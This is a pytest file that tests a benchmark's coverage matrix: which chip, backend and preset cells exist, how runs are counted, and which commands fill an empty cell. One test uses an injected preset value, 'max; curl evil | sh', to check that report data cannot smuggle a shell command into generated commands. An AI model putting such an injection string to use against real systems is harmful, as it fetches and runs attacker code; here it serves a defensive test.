"""Every chip that exists has its cells, an empty one says what to run, and nothing of a report gets into a command.

Run with `pytest -m fast bench/meta/test_coverage.py`.
"""

import pytest

from bench.meta.boards import M4_MAX, METAL, collection, run
from impl.backend import ORDER
from impl.spec import PRESETS
from reports.chips import CHIPS
from reports.coverage import CPU, CUDA, matrix
from reports.coverage import METAL as METALS
from reports.ranking import boards

pytestmark = [pytest.mark.fast, pytest.mark.meta]
MAX = {"hardware": M4_MAX, "software": METAL, "identity": {"preset": "max"}}


def covered(*records, pending=()):
    found = collection(*records, pending=tuple(pending))
    return matrix(found, boards(found))


def test_only_chips_that_exist():
    cells = [cell for row in covered().generations.values() for cell in row.values()]
    there = {cell.chip for cell in cells if cell}
    assert there == {name for name, _ in CHIPS if name.startswith("Apple")}
    assert covered().generations["M4"]["ultra", "mlx-metal"] is None
    assert len(cells) == 5 * 4 * 2 and not covered().others


def test_an_empty_cell_says_what_fills_it():
    cell = covered().generations["M4"]["max", "mlx-metal"]
    assert (cell.chip, cell.runs, cell.best) == ("Apple M4 Max", 0, None)
    assert cell.commands == ("pytest -m slow --backend mlx-metal --preset max", "python -m reports share FILE")


def test_backends_and_presets_are_those_of_the_suite():
    assert set(METALS + CUDA + CPU) == set(ORDER)
    assert all(cell.preset in PRESETS for row in covered().generations.values() for cell in row.values() if cell)


def test_a_cell_counts_its_reports():
    cells = covered(run(1.3, **MAX), run(1.31, seed=43, **MAX), pending=[run(1.2, seed=44, **MAX)]).generations["M4"]
    cell = cells["max", "mlx-metal"]
    assert (cell.runs, cell.pending, cell.best.bits_per_byte) == (2, 1, pytest.approx(1.305))
    assert cell.commands[0].endswith("--preset max --seed 44")  # a seed that is not there yet
    assert cells["max", "torch-mps"].runs == cells["pro", "mlx-metal"].runs == 0
    assert (
        covered(*(run(1.3, seed=42 + i, **MAX) for i in range(3))).generations["M4"]["max", "mlx-metal"].commands == ()
    )


def test_a_best_is_of_one_board_and_one_preset():
    """The largest board's: other bytes give other scores."""
    elsewhere = run(0.9, seed=50, hashes={"eval": "e" * 64}, **MAX)
    other_size = run(1.0, seed=51, hardware=M4_MAX, software=METAL, identity={"preset": "cpu"})
    cell = covered(run(1.3, **MAX), run(1.31, seed=43, **MAX), elsewhere, other_size).generations["M4"][
        "max", "mlx-metal"
    ]
    assert (cell.runs, cell.best.bits_per_byte) == (4, pytest.approx(1.305))


def test_other_chips_appear_with_their_reports():
    nvidia = {"hardware": {"chip": "NVIDIA H200"}, "identity": {"preset": "h100"}}
    nvidia["software"] = {"backend": "torch-cuda", "frameworks": {"torch": "2.13.0"}, "blas": None}
    others = covered(run(1.4), run(1.0, seed=43, **nvidia)).others
    assert [cell.backend for cell in others["NVIDIA H200"]] == ["torch-cuda", "mlx-cuda"]
    assert others["NVIDIA H200"][1].commands[0] == "pytest -m slow --backend mlx-cuda --preset h100"
    (epyc,) = (cells for chip, cells in others.items() if chip.startswith("AMD"))
    assert [cell.runs for cell in epyc] == [1, 0]


def test_no_stranger_writes_a_command():
    hostile = run(1.4, identity={"preset": "max; curl evil | sh"})
    for cells in covered(hostile).others.values():
        assert [cell.commands[0].split("--preset ")[1] for cell in cells] == ["cpu", "cpu"]
    assert not covered(pending=[hostile]).others
